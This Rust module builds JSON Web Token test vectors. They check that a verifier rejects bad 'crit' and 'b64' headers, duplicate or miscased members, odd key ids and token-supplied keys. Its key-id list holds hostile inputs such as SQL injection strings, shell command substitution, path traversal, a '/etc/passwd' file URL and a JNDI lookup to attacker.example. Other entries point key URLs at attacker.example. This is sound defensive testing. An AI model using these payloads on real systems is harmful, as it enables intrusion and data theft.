//! What a header may say, and what nobody obeys.

use super::signer::Signer;
use super::{TokenFault, TokenVector, good_claims, put};

/// Key ids, keys that a token brings itself, extensions, and names given twice.
pub(super) fn add(vectors: &mut Vec<TokenVector>, signers: &[Signer], now: u64) {
    let payload = good_claims(now);
    let signer = signers.iter().find(|signer| signer.algorithm == "ES256").unwrap();
    add_key_ids(vectors, signer, &payload);
    add_brought_keys(vectors, signer, &payload);
    let of = |header: &str| signer.token_with(header, &payload);
    for critical in [
        r#"[]"#,
        r#"["exp"]"#,
        r#"["b64"]"#,
        r#"["http://example.com/UNDEFINED"]"#,
        r#""exp""#,
        "null",
        "true",
        "{}",
        r#"[1]"#,
        r#"["alg"]"#,
        r#"["exp","exp"]"#,
    ] {
        let header = signer.header(&format!(r#","exp":1,"crit":{critical}"#));
        put(vectors, format!("crit {critical}"), of(&header), TokenFault::Critical);
    }
    for (plain, fault) in [
        ("false", Some(TokenFault::Critical)),
        ("null", Some(TokenFault::Critical)),
        ("0", Some(TokenFault::Critical)),
        ("true", None),
    ] {
        let header = signer.header(&format!(r#","b64":{plain}"#));
        put(vectors, format!("b64 {plain}"), of(&header), fault);
    }
    let both = signer.header(r#","b64":false,"crit":["b64"]"#);
    put(vectors, "b64 false and critical", of(&both), TokenFault::Critical);
    for twice in [
        r#"{"alg":"ES256","alg":"ES256","kid":"es256"}"#,
        r#"{"alg":"none","alg":"ES256","kid":"es256"}"#,
        r#"{"alg":"ES256","alg":"none","kid":"es256"}"#,
        r#"{"alg":"ES256","\u0061lg":"none","kid":"es256"}"#,
        r#"{"alg":"ES256","kid":"es256","kid":"es256"}"#,
        r#"{"alg":"ES256","kid":"es256","x":{"y":1,"y":1}}"#,
    ] {
        put(vectors, format!("twice: {twice}"), of(twice), TokenFault::Malformed);
    }
    let escaped = r#"{"\u0061lg":"\u0045S256","kid":"es256"}"#;
    put(vectors, "escapes in the header", of(escaped), None);
    let spaced = "{\r\n \"alg\" : \"ES256\" ,\t\"kid\":\"es256\" }\n";
    put(vectors, "white space in the header", of(spaced), None);
    let other_case = r#"{"Alg":"ES256","kid":"es256"}"#;
    put(vectors, "members have a case", of(other_case), TokenFault::Malformed);
}

/// A key's id is a name, and leads nowhere.
fn add_key_ids(vectors: &mut Vec<TokenVector>, signer: &Signer, payload: &str) {
    let long = "k".repeat(4000);
    for id in [
        "",
        "ES256",
        "es256 ",
        "es256\\u0000",
        "../../../../dev/null",
        "/dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'key'--",
        "$(id)",
        "| sleep 9",
        "%65s256",
        "https://attacker.example/key",
        "file:///etc/passwd",
        "es256\\r\\nx: y",
        "${jndi:ldap://attacker.example}",
        "{{7*7}}",
        "*",
        long.as_str(),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"{id}"}}"#);
        let name = format!("kid {}", &id[..id.len().min(40)]);
        put(vectors, name, signer.token_with(header, payload), TokenFault::NoKey);
    }
    for id in ["null", "1", "true", r#"["es256"]"#, r#"{"es256":1}"#] {
        let header = format!(r#"{{"alg":"ES256","kid":{id}}}"#);
        put(
            vectors,
            format!("kid {id}"),
            signer.token_with(header, payload),
            TokenFault::Malformed,
        );
    }
}

/// A token that brings its own key, or says where that is, is held against the keys of its issuer all the same.
fn add_brought_keys(vectors: &mut Vec<TokenVector>, signer: &Signer, payload: &str) {
    let attacker = Signer::ecdsa_p256("es256");
    for brought in [
        format!(r#","jwk":{}"#, attacker.key),
        r#","jku":"https://attacker.example/keys""#.to_owned(),
        r#","x5u":"https://attacker.example/certificate""#.to_owned(),
        r#","x5c":["MIIB"]"#.to_owned(),
        r#","x5t":"AAAA""#.to_owned(),
    ] {
        let what: String = brought.chars().take(8).collect();
        let forged = attacker.token_with(attacker.header(&brought), payload);
        put(vectors, format!("forged, with {what}"), forged, TokenFault::Signature);
        let good = signer.token_with(signer.header(&brought), payload);
        put(vectors, format!("good, with {what}"), good, None);
    }
    let without = format!(r#"{{"alg":"ES256","jwk":{}}}"#, attacker.key);
    put(
        vectors,
        "forged, with jwk, without kid",
        attacker.token_with(without, payload),
        TokenFault::Signature,
    );
}
